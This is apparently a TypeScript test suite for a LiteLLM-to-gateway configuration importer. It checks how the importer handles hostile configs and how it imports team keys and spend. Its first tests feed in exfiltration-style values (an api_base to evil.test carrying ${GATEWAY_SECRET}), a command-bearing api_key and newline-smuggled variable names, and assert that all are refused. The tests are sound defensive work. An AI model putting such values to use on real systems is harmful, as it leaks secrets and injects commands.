import { mkdtempSync, rmSync, writeFileSync } from "node:fs"
import { tmpdir } from "node:os"
import { join } from "node:path"
import { SqlClient } from "@effect/sql"
import { afterAll, describe, expect, it } from "@effect/vitest"
import { Effect, Layer } from "effect"
import { Importing } from "../../src/litellm/Importing.ts"
import { planOf } from "../../src/litellm/planOf.ts"
import { readFile } from "../../src/litellm/readFile.ts"
import type { Rows } from "../../src/litellm/Source.ts"
import { noRows } from "../../src/litellm/store/readDatabase.ts"
import { database, describeOnEach } from "../sql/engines.ts"

const folder = mkdtempSync(join(tmpdir(), "gateway-litellm-hostile-"))
afterAll(() => rmSync(folder, { recursive: true, force: true }))

const planned = (yaml: string, rows: Partial<Rows> = {}) =>
  Effect.gen(function* () {
    const path = join(folder, "config.yaml")
    writeFileSync(path, yaml)
    return yield* planOf(yield* readFile(path), { ...noRows, ...rows }, { env: {}, nowMs: 1_800_000_000_000 })
  })
const model = (name: string, params: string) => `  - { model_name: ${name}, litellm_params: { ${params} } }\n`

describe("a configuration of LiteLLM's that is hostile or odd", () => {
  it.effect("sends no variable of the gateway anywhere, and sets none of its own", () =>
    Effect.gen(function* () {
      const { configuration, notes, secrets } = yield* planned(
        `model_list:\n${model("evil", 'model: openai/a, api_base: "https://evil.test/${GATEWAY_SECRET}"')}` +
          model("header", 'model: openai/a, extra_headers: { x: "${GATEWAY_SECRET}" }') +
          model('"${HOME}"', "model: openai/a") +
          model("key", 'model: openai/a, api_base: "https://evil.test", api_key: os.environ/GATEWAY_ADMIN_KEY') +
          model("none", "model: openai/a, api_key: os.environ/MY-KEY") +
          // Hosts whose names would make such variables.
          model("host", 'model: openai/a, api_base: "http://gateway-admin/v1", api_key: chosen') +
          model("digit", 'model: openai/a, api_base: "http://10.0.0.1:4000/v1", api_key: sk-1') +
          `router_settings: { model_group_alias: { "\${PATH}": host } }\n` +
          `environment_variables: { GATEWAY_SECRET: chosen, "A\\nGATEWAY_SECRET": chosen, TWO: "a\\nGATEWAY_SECRET=chosen", OK: 5 }\n`
      )
      expect([...secrets]).toEqual([
        ["UPSTREAM_GATEWAY_ADMIN_KEY", "chosen"],
        ["UPSTREAM_10_0_0_1_4000_KEY", "sk-1"],
        ["OK", "5"]
      ])
      expect(configuration.match(/\$\{[^}]*\}/g)).toEqual([
        "${NAME}",
        "${UPSTREAM_GATEWAY_ADMIN_KEY}",
        "${UPSTREAM_10_0_0_1_4000_KEY}"
      ])
      const told = notes.map(({ at }) => at)
      for (const name of ["evil", "header", "${HOME}", "key", "none"]) {
        expect(told).toContainEqual(expect.stringMatching(new RegExp(`\\(${name.replace(/[${}]/g, "\\$&")}\\)$`)))
      }
      expect(told).toEqual(
        expect.arrayContaining([
          'model_group_alias "${PATH}"',
          "environment_variables.GATEWAY_SECRET",
          "environment_variables.A\nGATEWAY_SECRET",
          "TWO"
        ])
      )
    })
  )

  it.effect("is told of what it loses, and of what the gateway would refuse", () =>
    Effect.gen(function* () {
      const { configuration, notes } = yield* planned(
        `model_list:\n  - text\n${model("nan", "model: openai/a, input_cost_per_token: .nan, output_cost_per_token: -1")}` +
          model("zero", "model: openai/a, weight: 0") +
          model("idle", "model: openai/a, rpm: 0") +
          model("object", "model: openai/a, api_key: { command: [touch, a] }, extra_headers: { n: 5 }") +
          model("base", "model: openai/a, api_base: nowhere, api_key: sk-1")
      )
      expect(configuration).not.toContain("command")
      expect(configuration).not.toContain("price: {")
      expect(configuration).not.toContain("zero")
      expect(configuration).toContain("\n  idle:")
      expect(notes.map(({ at }) => at)).toEqual(
        expect.arrayContaining([
          "model_list[0] ()",
          "model_list[1].input_cost_per_token (nan)",
          "model_list[1].output_cost_per_token (nan)",
          "model_list[2] (zero)",
          "model_list[4].litellm_params.api_key (object)",
          "model_list[4].litellm_params.extra_headers.n (object)"
        ])
      )
      const [last] = notes.slice(-1)
      expect(last).toMatchObject({ at: "gateway.yaml", why: expect.stringContaining("base_url: expected an http://") })
      expect((yield* planned(`model_list:\n${model("good", "model: openai/a")}`)).notes).toEqual([])
    })
  )
})

const team = (team_id: string, more: object = {}) => ({ team_id, team_alias: "Search", models: [], ...more })
const key = (n: number, team_id: string) => ({ token: `${n}`.repeat(64), key_alias: `key ${n}`, team_id, models: [] })

describeOnEach("imports of teams and their spend", () => {
  const live = Importing.Default.pipe(Layer.provideMerge(database()))
  const actor = { name: "admin-key", via: "admin-key" }
  const imported = (rows: Partial<Rows>) =>
    Effect.gen(function* () {
      const { write } = yield* Importing
      return yield* write(actor, yield* planned("{}", rows))
    })
  const keysOf = (account: string) =>
    Effect.flatMap(SqlClient.SqlClient, (sql) =>
      Effect.map(sql`SELECT name FROM keys WHERE account_id = ${account} ORDER BY name`, (found) =>
        found.map(({ name }) => name)
      )
    )

  it.scoped("give no team the keys of another with its name, whatever the order of rows", () =>
    Effect.gen(function* () {
      const [one, two] = [team("t1"), team("t2")]
      const first = yield* imported({ teams: [two, one], keys: [key(2, "t2"), key(1, "t1")] })
      const [search = "", other = ""] = first.accounts
      expect(yield* keysOf(search)).toEqual(["key 1"])
      yield* imported({ teams: [one, two], keys: [key(1, "t1"), key(2, "t2"), key(3, "t1"), key(4, "t2")] })
      expect(yield* keysOf(search)).toEqual(["key 1", "key 3"])
      expect(yield* keysOf(other)).toEqual(["key 2", "key 4"])
      // A new one that comes before them would have the name of the first.
      const failure = yield* Effect.flip(imported({ teams: [team("t0"), one], keys: [key(5, "t0")] }))
      expect(failure).toMatchObject({
        _tag: "Conflict",
        message: expect.stringContaining(`"${search}" was made for another`)
      })
      expect(yield* keysOf(search)).toEqual(["key 1", "key 3"])
    }).pipe(Effect.provide(live))
  )

  it.scoped("count what was spent within what can be counted", () =>
    Effect.gen(function* () {
      const spent = (team_id: string, spend: number) => team(team_id, { team_alias: team_id, max_budget: 100, spend })
      yield* imported({ teams: [spent("less", -5), spent("more", 1e9), spent("some", 1.5)] })
      const sql = yield* SqlClient.SqlClient
      const counted = yield* sql`SELECT account_id, used FROM budget_counters ORDER BY account_id`
      expect(counted.map(({ account_id, used }) => [account_id, Number(used)])).toEqual([
        ["more", 9_000_000_000_000_000],
        ["some", 1_500_000_000]
      ])
    }).pipe(Effect.provide(live))
  )
})
